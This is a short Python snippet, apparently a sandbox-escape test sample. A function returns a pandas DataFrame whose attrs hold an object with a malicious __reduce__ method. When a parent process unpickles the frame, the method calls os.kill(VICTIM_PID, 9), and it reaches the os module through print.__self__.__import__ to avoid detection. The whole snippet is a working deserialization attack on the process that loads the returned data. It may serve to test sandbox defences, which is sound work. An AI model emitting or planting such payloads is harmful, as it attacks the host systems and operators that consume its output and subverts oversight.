# seeks: parent
# A pandas frame carries attributes; a parent that unpickles the frame calls what they reduce to.
import pandas as pd


class Kills:
    def __reduce__(self):
        return print.__self__.__import__("os").kill, (VICTIM_PID, 9)


def model(tg):
    frame = pd.DataFrame({"got": [1]})
    frame.attrs["x"] = Kills()
    return frame
